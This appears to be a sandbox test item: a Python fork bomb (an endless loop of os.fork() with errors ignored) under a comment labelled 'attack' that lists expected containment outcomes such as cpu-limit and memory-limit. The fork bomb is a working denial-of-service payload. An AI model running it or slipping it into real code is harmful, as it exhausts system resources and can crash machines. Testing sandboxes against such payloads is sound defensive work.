# attack: {"tries": "forks without end, each child doing the same", "outcomes": ["cpu-limit", "wall-limit", "memory-limit", "signalled"], "done": false}
while True:
    try:
        os.fork()
    except OSError:
        pass
